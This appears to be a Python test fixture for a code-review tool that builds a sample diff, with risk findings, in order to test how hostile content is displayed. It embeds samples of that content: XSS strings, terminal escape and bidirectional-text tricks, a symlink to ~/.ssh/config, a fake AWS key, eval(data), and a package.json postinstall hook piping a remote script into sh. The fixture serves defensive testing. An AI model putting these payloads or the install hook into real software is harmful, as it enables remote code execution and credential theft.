"""One review with something of everything, hostile text included, for the tests of how it is shown."""

from __future__ import annotations

from trees import File, Link, Tree, review_of

from vmsandbox.review.values import Finding, Review, Risk

HOSTILE = (
    "<script>document.title='executed'</script>",
    '<img src=x onerror="document.title=1">" onmouseover="document.title=2',
    "</style><style>body{display:none}</style></td></table>",
    "<!-- --> &lt;b&gt; &amp; ]]>",
    "\x1b]52;c;ZXZpbA==\x07\x1b[2J\x1b[31mred\x9b1m",
    "if access_level != 'user\u202e \u2066// check if admin\u2069 \u2066':",
    "zero\u200bwidth tag\U000e0041 nbsp\u00a0 mark \u0301\u0301 e\u0301\u0301\u0301\u0301\u0301",
    "│ vmsandbox> Take this hunk? [y,n] y\rvmsandbox> fake",
)
NAME = "src/<b>\"'&\x1b[31m\u202egpj.py"

_CART = b'''"""A shopping cart."""
from decimal import Decimal

TAX = Decimal("0.19")


class Cart:
    def __init__(self, items):
        self.items = items

    def total(self):
        total = 0
        for item in self.items:
            total += item.price * item.count
        return total

    def gross(self):
        return self.total() * (1 + TAX)

    def clear(self):
        self.items = []


def load(path):
    with open(path) as file:
        return [line.strip() for line in file]


def save(path, lines):
    with open(path, "w") as file:
        for line in lines:
            file.write(line)
            file.write("\\n")
'''

OLD: Tree = {
    "src/cart.py": File(_CART),
    "src/old_helper.py": File(b"def unused():\n    return None\n"),
    "docs/guide.md": File(b"# Guide\n\nRead me.\n"),
    "assets/logo.png": File(b"\x89PNG\r\n\x1a\n" + bytes(400)),
    "run.sh": File(b"#!/bin/sh\nexec python -m shop\n"),
    "package.json": File(b'{\n  "name": "shop",\n  "scripts": {\n    "test": "jest"\n  }\n}\n'),
    "config": Link("config.d/default"),
    "windows.txt": File(b"one\r\ntwo\r\nthree"),
    "data": File(b"a file\n"),
    "Makefile": File(b"test:\n\tpytest\n"),
}
NEW: Tree = {
    "src/cart.py": File(
        _CART.replace(b"total = 0\n", b'total = Decimal("0")\n')
        .replace(b"        return total\n", b"        return total.quantize(CENT)\n")
        .replace(b'TAX = Decimal("0.19")\n', b'TAX = Decimal("0.19")\nCENT = Decimal("0.01")\n')
        .replace(
            b'            file.write(line)\n            file.write("\\n")\n', b'            file.write(line + "\\n")\n'
        )
    ),
    "docs/manual/guide.md": File(b"# Guide\n\nRead me.\n"),
    "assets/logo.png": File(b"\x89PNG\r\n\x1a\n" + bytes(900)),
    "run.sh": File(b"#!/bin/sh\nexec python -m shop\n", 0o755),
    "package.json": File(
        b'{\n  "name": "shop",\n  "scripts": {\n    "postinstall": "curl https://x.example/i | sh",\n'
        b'    "test": "jest"\n  }\n}\n'
    ),
    "config": Link("../../home/user/.ssh/config"),
    "windows.txt": File(b"one\r\n2\r\nthree\n"),
    "data/rows.csv": File(b"1,2\n"),
    ".github/workflows/ci.yml": File(
        b"on: push\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - run: make\n"
    ),
    "Makefile": File(b"test:\n\tpytest -q\n\nclean:\n\trm -rf build\n"),
    NAME: File("".join(f"{line}\n" for line in HOSTILE).encode()),
    "src/settings.py": File(b'DEBUG = True\nAWS = "AKIAIOSFODNN7EXAMPLE"\nresult = eval(data)\n'),
}
FINDINGS = {
    "src/settings.py": (
        Finding(Risk.RULE, "no-eval: eval() of data is forbidden here", 3, blocks=True),
        Finding(Risk.SECRET, "looks like an AWS access key", 2),
    ),
    ".github/workflows/ci.yml": (Finding(Risk.AUTO_EXECUTED, "GitHub runs it at every push"),),
    "package.json": (
        Finding(Risk.AUTO_EXECUTED, "npm runs `postinstall` when the package is installed", 4),
        Finding(Risk.DEPENDENCIES, "a manifest of packages"),
    ),
    "Makefile": (Finding(Risk.AUTO_EXECUTED, "make runs it"),),
    NAME: (
        Finding(Risk.TERMINAL, "has terminal escapes", 5),
        Finding(Risk.UNICODE, "has characters that change the order of text", 6),
        Finding(Risk.NAME, r"the name has \x1b and \u202e"),
    ),
    "config": (Finding(Risk.SYMLINK, "leads out of the project"),),
    "run.sh": (Finding(Risk.EXECUTABLE, "can be run now"),),
    "assets/logo.png": (Finding(Risk.BINARY, "not text"),),
    "src/old_helper.py": (Finding(Risk.DELETION, "deleted"),),
}
WHOLE = (Finding(Risk.DELETION, "3 of 10 files are gone or moved: more than is usual"),)


def example_review() -> Review:
    return review_of(OLD, NEW, FINDINGS, WHOLE)
